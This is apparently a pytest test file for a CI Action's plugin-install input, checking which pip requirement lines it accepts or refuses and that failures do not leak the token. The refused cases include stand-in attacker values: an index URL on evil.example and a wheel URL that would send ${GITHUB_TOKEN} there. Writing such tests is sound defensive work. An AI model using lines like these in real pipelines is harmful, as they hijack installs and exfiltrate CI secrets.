"""The Action's `plugins` input (scorecard.action.plugins): what may be installed, the pip
command, and a clear failure. Installing for real is the container test's job."""

from __future__ import annotations

import io
import subprocess
from typing import Any

import pytest
from actionenv import action_inputs

from scorecard.action import plugins, run
from scorecard.action.env import ActionEnv, ActionError

SHA = "sha256:" + "0" * 64


@pytest.mark.parametrize(
    "text",
    [
        "acme-checks==1.2",
        "acme-checks==1.2 ; python_version >= '3.11'",
        f"acme-checks==1.2 --hash={SHA}",
        f"acme-checks==1.2 \\\n  --hash {SHA}".replace("\\\n  ", ""),
        "https://example.com/acme_checks-1.2-py3-none-any.whl",
        "./tools/checks  # our own",
        "# a comment\n\nacme-checks>=1",
    ],
)
def test_allowed(text):
    assert plugins.parse(text)


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("--index-url https://evil.example/simple", "'--index-url'"),
        ("-e ./tools/checks", "'-e'"),
        ("acme-checks --extra-index-url https://evil.example", "'--extra-index-url'"),
        ("acme-checks --trusted-host evil.example", "'--trusted-host'"),
        ("-r other.txt", "'-r'"),
        ("acme-checks --hash=md5", "'--hash'"),
        # pip expands ${VAR} in a requirements file: a URL could carry the job's token away
        ("https://evil.example/${GITHUB_TOKEN}/acme.whl", "variable"),
        # a continuation would join two lines that were checked one by one
        ("acme-checks \\\n--hash=sha256:00", "continuation"),
    ],
)
def test_refused_before_pip_runs(text, what):
    with pytest.raises(ActionError, match=what):
        plugins.parse(text)


def env_with(tmp_path, **inputs: str) -> ActionEnv:
    environ = {f"INPUT_{k.upper()}": v for k, v in {**action_inputs(), **inputs}.items()}
    environ.update({"GITHUB_WORKSPACE": str(tmp_path), "GITHUB_EVENT_NAME": "push"})
    return ActionEnv(environ, io.StringIO())


def test_the_pip_command(tmp_path, monkeypatch):
    seen: list[list[str]] = []

    def fake_run(cmd: list[str], **kw: Any) -> subprocess.CompletedProcess[str]:
        seen.append(cmd)
        return subprocess.CompletedProcess(cmd, 0, "", "")

    monkeypatch.setattr(plugins.subprocess, "run", fake_run)
    env = env_with(tmp_path)
    assert plugins.install(env, f"a==1 --hash={SHA}\nb==2 --hash={SHA}") == [
        f"a==1 --hash={SHA}",
        f"b==2 --hash={SHA}",
    ]
    assert "--require-hashes" in seen[0] and seen[0][1:4] == ["-m", "pip", "install"]
    plugins.install(env, f"a==1 --hash={SHA}\nb==2")
    assert "--require-hashes" not in seen[1]
    assert plugins.install(env, "# nothing\n") == [] and len(seen) == 2


def test_a_path_is_refused_on_a_pull_request(tmp_path):
    with pytest.raises(ActionError, match="pull request's own code"):
        plugins.install(env_with(tmp_path), "./tools/checks", "pull_request")
    with pytest.raises(ActionError, match="pull request's own code"):
        plugins.install(env_with(tmp_path), "dist/acme-1.0-py3-none-any.whl", "pull_request")


def test_a_plugin_that_cannot_be_installed_fails_the_step_clearly(tmp_path):
    out = io.StringIO()
    environ = {f"INPUT_{k.upper()}": v for k, v in action_inputs().items()}
    environ.update(
        {
            "GITHUB_WORKSPACE": str(tmp_path),
            "GITHUB_EVENT_NAME": "push",
            "INPUT_PLUGINS": "./no-such-plugin-folder",
            "INPUT_TOKEN": "ghp_secretsecretsecretsecret012345",
        }
    )
    assert run(environ, out) == 2
    log = out.getvalue()
    errors = [x for x in log.splitlines() if x.startswith("::error")]
    assert len(errors) == 1 and "plugins: cannot install ./no-such-plugin-folder" in errors[0]
    assert "Traceback" not in log
    assert all("ghp_secretsecret" not in x for x in log.splitlines() if "::add-mask::" not in x)
